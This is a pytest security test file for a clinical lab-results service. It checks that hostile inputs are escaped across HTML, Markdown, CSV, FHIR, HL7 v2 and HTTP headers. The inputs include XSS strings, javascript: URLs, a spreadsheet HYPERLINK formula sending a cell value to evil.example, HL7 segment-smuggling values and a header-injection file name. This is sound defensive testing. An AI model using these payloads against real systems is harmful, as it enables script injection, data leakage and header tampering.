"""Output escaping with hostile patient ids, notes, file names, mappings and FHIR / HL7 v2 text: through the
dashboard's HTML, the CDS card's Markdown, the batch CSV and JSON, the FHIR answer, the HL7 ACK and the
HTTP headers, everything comes out inert (shown as text, never run, never a link, never a formula, never
a new header or segment)."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.adapters.cdshooks.build import hook_call, searchset, spec_example_observations
from tests.adapters.fhir.build import bundle, observation, patient, report
from tests.adapters.hl7v2.samples import NHAPI_ORU, replace_field, text
from tests.credentials import csrf_token
from tests.security.audit_support import cbc, csv_upload

SCRIPT = "<script>window.__pwned=1</script>"
IMG = '"><img src=x onerror="window.__pwned=2">'
JS_URL = "javascript:window.__pwned=3"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
MARKDOWN = "[click me](javascript:window.__pwned=4) **bold** <b>html</b>"
HOSTILE_IDS = [SCRIPT, IMG, JS_URL, FORMULA, MARKDOWN, "+SUM(1,2)", "@cmd", "-2+3", "'quoted' & \"double\""]
HOSTILE_NOTE = f"{SCRIPT} {IMG} {MARKDOWN}\r\nSecond line {FORMULA}"


class Tags(HTMLParser):
    """Every start tag with its attributes, and the page's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_html(html: str, shown: list[str] | None = None) -> Tags:
    """No script but the dashboard's file, no event handler, no javascript: URL, no injected element; and each
    hostile text in `shown` is in the page as text."""
    page = Tags()
    page.feed(html)
    for tag, attrs in page.tags:
        if tag == "script":
            assert (attrs.get("src") or "").startswith("/dashboard/static/"), attrs
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("href", "src", "action", "formaction"):
            assert not (attrs.get(name) or "").strip().lower().startswith("javascript:"), (tag, attrs)
        assert not (tag == "img" and attrs.get("src") == "x"), attrs
        assert tag != "b", attrs  # from the Markdown/HTML text: it must stay text
    text = "".join(page.text)
    for value in shown or []:
        assert value in text, value
    return page


@pytest.fixture
def hostile(client) -> list[dict[str, Any]]:
    """A stored urgent CBC for each hostile id, and a status change with a hostile note on the first."""
    answers = client.post("/api/v1/interpretations", json=[cbc(value) for value in HOSTILE_IDS]).get_json()
    first = answers[0]["stored"]["referral_id"]
    response = client.patch(
        f"/api/v1/referrals/{first}", json={"status": "acknowledged", "note": HOSTILE_NOTE, "actor": IMG}
    )
    assert response.status_code == 200
    return answers


# --- the dashboard's HTML -------------------------------------------------------------------------


def test_hostile_patient_ids_on_the_worklist_are_text(client, hostile):
    html = client.get("/dashboard/?status=new&status=acknowledged").get_data(as_text=True)
    page = assert_inert_html(html, shown=HOSTILE_IDS)
    links = [attrs["href"] or "" for tag, attrs in page.tags if tag == "a"]
    links = [link for link in links if "/dashboard/patients/" in link]
    assert links and all("<" not in link and '"' not in link and " " not in link for link in links)  # URL-quoted


def test_a_hostile_patient_page_and_note_are_text(client, hostile):
    for value in HOSTILE_IDS:
        response = client.get("/dashboard/patients/" + value)
        assert response.status_code == 200, value
        assert_inert_html(response.get_data(as_text=True), shown=[value])
    html = client.get("/dashboard/patients/" + SCRIPT).get_data(as_text=True)
    assert_inert_html(html, shown=[IMG])  # the note's author
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in html


def test_the_status_form_page_escapes_the_note(client, hostile):
    referral = hostile[0]["stored"]["referral_id"]
    html = client.get(f"/dashboard/referrals/{referral}/status").get_data(as_text=True)
    assert_inert_html(html, shown=[SCRIPT])


def test_a_hostile_note_typed_in_the_dashboard_is_text(client, hostile):
    referral = hostile[1]["stored"]["referral_id"]
    response = client.post(
        f"/dashboard/referrals/{referral}/status",
        data={
            "status": "acknowledged",
            "note": HOSTILE_NOTE,
            "actor": SCRIPT,
            "csrf_token": csrf_token(client),
            "next": JS_URL,
        },
        follow_redirects=False,
    )
    assert response.status_code == 303
    assert response.location.startswith("/dashboard/")  # a hostile `next` is not followed
    page = client.get(response.location)
    assert_inert_html(page.get_data(as_text=True))  # the flash message names the patient: escaped too
    assert_inert_html(client.get("/dashboard/patients/" + IMG).get_data(as_text=True), shown=[SCRIPT])


def test_hostile_batch_file_names_and_mappings_are_text(client):
    name = f"<img src=x onerror=alert(1)>{SCRIPT}.csv"  # a multipart file name cannot hold a double quote
    upload = csv_upload("patient_id,PLT\nMRN-FILE,40\n", filename=name)
    assert client.post("/dashboard/batches", data={**upload, "csrf_token": csrf_token(client)}).status_code == 303
    assert_inert_html(client.get("/dashboard/batches").get_data(as_text=True), shown=[name])
    bad_mapping = json.dumps({"columns": {SCRIPT: "platelets", IMG: "nonsense"}})
    refused = client.post(
        "/dashboard/batches", data={**csv_upload("PLT\n40\n"), "mapping": bad_mapping, "csrf_token": csrf_token(client)}
    )
    assert refused.status_code == 422
    assert_inert_html(refused.get_data(as_text=True), shown=[bad_mapping])  # the mapping, given back in its box


# --- the batch CSV and JSON --------------------------------------------------------------------------


def test_batch_output_neutralises_formulas_and_keeps_every_value_in_its_cell(client):
    rows = [("patient_id", "collected_at", "PLT", "comment")]
    for i, value in enumerate(HOSTILE_IDS):
        rows.append((value, f"2026-11-{10 + i:02d}T08:00:00Z", "40", HOSTILE_NOTE))
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    created = client.post("/api/v1/batches", data=csv_upload(buffer.getvalue())).get_json()
    out = client.get(created["links"]["csv"]).get_data(as_text=True).lstrip("\ufeff")
    table = list(csv.DictReader(io.StringIO(out)))
    assert len(table) == len(HOSTILE_IDS)  # no row or column smuggled in by quotes or line breaks
    header = next(csv.reader(io.StringIO(out)))
    for row, value in zip(table, HOSTILE_IDS, strict=True):
        assert None not in row and len(row) == len(header)
        cell = row["patient_id"]
        if value[0] in "=+-@":
            assert cell == "'" + value, cell  # a spreadsheet shows it as text
        else:
            assert cell == value
    records = json.loads(client.get(created["links"]["json"]).get_data(as_text=True))
    assert [record["ids"]["patient_id"] for record in records] == HOSTILE_IDS  # JSON keeps the value as sent


# --- the CDS card's Markdown ---------------------------------------------------------------------------


def card_for(client, observations: list[dict[str, Any]], patient_resource: dict[str, Any] | None = None) -> dict:
    body = hook_call("pat2", {"patient": patient_resource, "cbcObservations": searchset(observations)})
    response = client.post("/cds-services/cbc-review", json=body)
    assert response.status_code == 200, response.get_data(as_text=True)
    [card] = response.get_json()["cards"]
    return card


def assert_inert_markdown(markdown: str) -> None:
    """No link, HTML or emphasis from the client's text: its specials are backslash-escaped."""
    assert not re.search(r"(?<!\\)\]\(", markdown) and not re.search(r"(?<!\\)<", markdown)
    renderer = pytest.importorskip("markdown_it").MarkdownIt("commonmark")
    html = renderer.render(markdown)
    assert "javascript:" not in "".join(attrs.get("href") or "" for tag, attrs in _tags(html) if tag == "a")
    assert not any(tag in ("script", "img", "b") for tag, _ in _tags(html))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    page = Tags()
    page.feed(html)
    return page.tags


def test_hostile_fhir_text_in_a_cds_card_is_escaped_markdown(client):
    observations = spec_example_observations()
    hostile_unit = "[click me](javascript:x)<b>b</b>" + SCRIPT[:20]  # a unit is at most 64 characters
    observations[0]["valueQuantity"].update(unit=hostile_unit, code=hostile_unit)  # refused, and quoted
    card = card_for(client, observations)
    assert card["indicator"] == "warning"
    assert "click me" in card["detail"]  # the unit is quoted, as text
    assert_inert_markdown(card["detail"])
    assert_inert_markdown(card["summary"])


def test_a_hostile_mrn_in_the_dashboard_link_of_a_card_is_url_quoted(client):
    observations = spec_example_observations()
    record = patient("pat2", mrn=f"{JS_URL}/{IMG}")
    # The link is given only for a patient the record of results has (issue 14 item 2): store one CBC first.
    stored = client.post(
        "/api/v1/interpretations", json={"patient": {"id": f"{JS_URL}/{IMG}"}, "results": {"platelets": 200}}
    )
    assert stored.status_code == 200, stored.get_data(as_text=True)
    card = card_for(client, observations, record)
    [link] = card["links"]
    assert link["url"].startswith("http://localhost/dashboard/patients/")
    tail = link["url"].rsplit("/", 1)[1]
    assert all(char not in tail for char in '<>"/ :') and "%3C" in tail
    assert_inert_markdown(card["detail"])


# --- the FHIR answer --------------------------------------------------------------------------------


def test_hostile_fhir_ids_come_back_as_json_strings(client):
    body = bundle(
        patient("p1", mrn=SCRIPT + IMG),
        observation(
            "o1", "777-3", 40, "10*3/uL", subject={"reference": "Patient/p1"}, effectiveDateTime="2026-11-20T08:00:00Z"
        ),
        report("r1", ["Observation/o1"], subject={"reference": "Patient/p1"}, effectiveDateTime="2026-11-20T08:00:00Z"),
    )
    for accept in ("application/json", "application/fhir+json"):
        response = client.post(
            "/api/v1/fhir/interpret?store=false",
            data=json.dumps(body),
            content_type="application/fhir+json",
            headers={"Accept": accept},
        )
        assert response.status_code == 200, response.get_data(as_text=True)
        assert response.mimetype == accept and response.headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in response.headers["Content-Security-Policy"]
        answer = response.get_json(force=True)
        if accept == "application/json":  # the value, kept exactly, as a JSON string
            assert answer["interpretations"][0]["patient_id"] == SCRIPT + IMG
        else:  # a FHIR Bundle pointing at the Patient
            assert answer["resourceType"] == "Bundle" and all("<" not in value for value in strings(answer))


def strings(value: Any) -> set[str]:
    """Every string value in a JSON document."""
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return set().union(*(strings(item) for item in value.values())) if value else set()
    if isinstance(value, list):
        return set().union(*(strings(item) for item in value)) if value else set()
    return set()


# --- the HL7 v2 ACK -------------------------------------------------------------------------------


@pytest.mark.parametrize("unit", [r"k\X0D\MSH|x", r"k\X0D0A\EVN", r"a\F\b\S\c\R\d\E\e\T\f", SCRIPT, "x\\.br\\MSH"])
def test_hostile_hl7_values_quoted_in_an_ack_add_no_segment(client, unit):
    message = replace_field(text(NHAPI_ORU), ("OBX", 1), 6, unit)
    response = client.post(
        "/api/v1/hl7v2/interpret?store=false&ack=true", data=message, content_type="x-application/hl7-v2+er7"
    )
    assert response.status_code == 200
    segments = [segment[:3] for segment in response.get_data(as_text=True).split("\r") if segment]
    assert segments[:2] == ["MSH", "MSA"] and set(segments[2:]) <= {"ERR"}
    assert "\n" not in response.get_data(as_text=True)


# --- HTTP headers -------------------------------------------------------------------------------------


def test_a_hostile_upload_file_name_never_reaches_a_header(client):
    name = "evil\"; filename*=UTF-8''x.exe\r\nSet-Cookie: stolen=1.csv"
    created = client.post("/api/v1/batches", data=csv_upload("patient_id,PLT\nMRN-H,40\n", filename=name))
    assert created.status_code == 202
    batch = created.get_json()["batch_id"]
    assert created.headers["Location"] == f"/api/v1/batches/{batch}"
    for kind in ("csv", "json"):
        response = client.get(f"/api/v1/batches/{batch}/result.{kind}")
        # The download is named after the upload (issue 14 item 5). The multipart part's own header reads the
        # name as x.exe (its filename*; the line break ends that header), and the result is named after that
        # name; no part of the hostile text reaches the answer's headers.
        disposition = response.headers["Content-Disposition"]
        name = f"x.exe.interpreted.{kind}"
        assert disposition == f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
        assert "stolen" not in str(response.headers)


def test_a_hostile_patient_id_in_a_path_or_request_id_makes_no_header(client, hostile):
    response = client.get("/api/v1/patients/" + FORMULA + "/results", headers={"X-Request-ID": "a b; c=d"})
    assert response.status_code == 200
    assert response.headers["X-Request-ID"] != "a b; c=d" and "HYPERLINK" not in str(response.headers)
    referral = hostile[0]["stored"]["referral_id"]
    links = client.get(f"/api/v1/referrals/{referral}").get_json()["links"]
    assert links["patient"] == "/api/v1/patients/%3Cscript%3Ewindow.__pwned=1%3C/script%3E/results"
